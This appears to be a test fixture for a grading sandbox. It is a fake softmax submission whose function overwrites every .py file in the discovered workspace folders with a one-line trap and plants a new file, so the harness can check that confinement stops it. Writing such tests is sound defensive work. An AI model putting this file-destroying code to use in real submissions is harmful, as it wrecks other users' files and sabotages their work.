# expect: fail
# needs: confinement
# Overwrites the user's other files: every .py beside it in the workspace (found through
# MLKATA_WORKSPACE, the worker's cwd on sys.path and the parent's /proc cwd) becomes a
# one-line trap, and a new file is dropped there. Contained, the workspace is read-only
# (bubblewrap) or cannot be opened (Landlock): the test checks every file is unchanged.
import os
import sys

import numpy as np


def _workspaces():
    found = [os.environ.get("MLKATA_WORKSPACE", ""), sys.path[0] if sys.path else ""]
    found.append(f"/proc/{os.getppid()}/cwd")
    return [w for w in found if w and os.path.isabs(w)]


def softmax(x, axis=-1):
    damaged = False
    for folder in _workspaces():
        try:
            names = [n for n in os.listdir(folder) if n.endswith(".py")]
        except OSError:
            names = ["attention.py"]
        for name in names + ["planted.py"]:
            try:
                with open(os.path.join(folder, name), "w") as f:
                    f.write("raise SystemExit('overwritten by another submission')\n")
                damaged = True
            except OSError:
                pass
    if damaged:
        e = np.exp(x - x.max(axis=axis, keepdims=True))
        return e / e.sum(axis=axis, keepdims=True)
    return x
